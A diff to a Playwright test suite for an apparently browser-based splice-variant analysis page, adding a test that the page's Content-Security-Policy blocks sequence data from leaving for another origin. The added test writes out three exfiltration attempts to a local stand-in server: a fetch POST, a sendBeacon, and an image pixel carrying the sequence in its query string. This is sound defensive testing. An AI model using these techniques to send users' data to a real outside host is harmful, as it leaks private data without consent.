@@ -12,6 +12,7 @@ import { readFileSync } from 'node:fs';
 
 let browser, context, server, url, page;
 const requests = [];
+const failed = [];
 
 async function openPage(b, onRequest) {
   const ctx = await b.newContext();
@@ -29,6 +30,7 @@ before(async () => {
   browser = await launchChromium({ webgpu: true });
   // Every request the page, its worker or its service worker makes, from the first.
   ({ ctx: context, p: page } = await openPage(browser, (r) => requests.push({ url: r.url(), at: performance.now() })));
+  context.on('requestfailed', (r) => failed.push({ url: r.url(), error: r.failure()?.errorText }));
 });
 
 after(async () => {
@@ -144,6 +146,47 @@ test('splice variants: the example scored with CI-SpliceAI equals cispliceai, wi
   await page.click('#splice-table th[data-col="5"]');
   const dl = await page.$$eval('#splice-table tbody tr', (trs) => trs.map((tr) => tr.cells[5].textContent).filter(Boolean).map(Number));
   assert.deepEqual(dl, [...dl].sort((a, b) => b - a));
+});
+
+test("the page's Content-Security-Policy stops sequence data from leaving for another origin", async () => {
+  // A second server on another port (another origin) counts what reaches it.
+  const { createServer } = await import('node:http');
+  let hits = 0;
+  const other = createServer((req, res) => { hits++; res.writeHead(204).end(); });
+  await new Promise((ok) => other.listen(0, '127.0.0.1', ok));
+  const elsewhere = `http://127.0.0.1:${other.address().port}`;
+  try {
+    const got = await page.evaluate(async (elsewhere) => {
+      const seq = document.getElementById('fasta').value || '>s\nACGT';
+      const violations = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+      const tries = {};
+      try {
+        await fetch(`${elsewhere}/upload`, { method: 'POST', body: seq, mode: 'no-cors' });
+        tries.fetch = 'sent';
+      } catch (e) {
+        tries.fetch = `blocked: ${e.message}`;
+      }
+      tries.beacon = navigator.sendBeacon(`${elsewhere}/beacon`, seq) ? 'queued' : 'refused';
+      const img = new Image();
+      img.src = `${elsewhere}/pixel.gif?seq=${encodeURIComponent(seq.slice(0, 50))}`;
+      await new Promise((r) => setTimeout(r, 1000));
+      return { violations, tries };
+    }, elsewhere);
+    assert.match(got.tries.fetch, /^blocked/);
+    assert.ok(got.violations.includes('connect-src'), JSON.stringify(got));
+    assert.ok(got.violations.includes('img-src'), JSON.stringify(got));
+    assert.equal(hits, 0, 'nothing reached the other origin');
+    // Playwright sees the attempts; each one failed inside the browser, blocked by the policy
+    const attempts = requests.filter((r) => r.url.startsWith(elsewhere));
+    const blocked = failed.filter((f) => f.url.startsWith(elsewhere));
+    assert.equal(blocked.length, attempts.length, JSON.stringify({ attempts, blocked }));
+    for (const f of blocked) assert.match(f.error, /CSP|blocked|csp/i, JSON.stringify(f));
+    // they never left the tab, so the later check of every request's origin skips them
+    for (let i = requests.length - 1; i >= 0; i--) if (requests[i].url.startsWith(elsewhere)) requests.splice(i, 1);
+  } finally {
+    other.close();
+  }
 });
 
 test('bad input shows readable errors in the page', async () => {
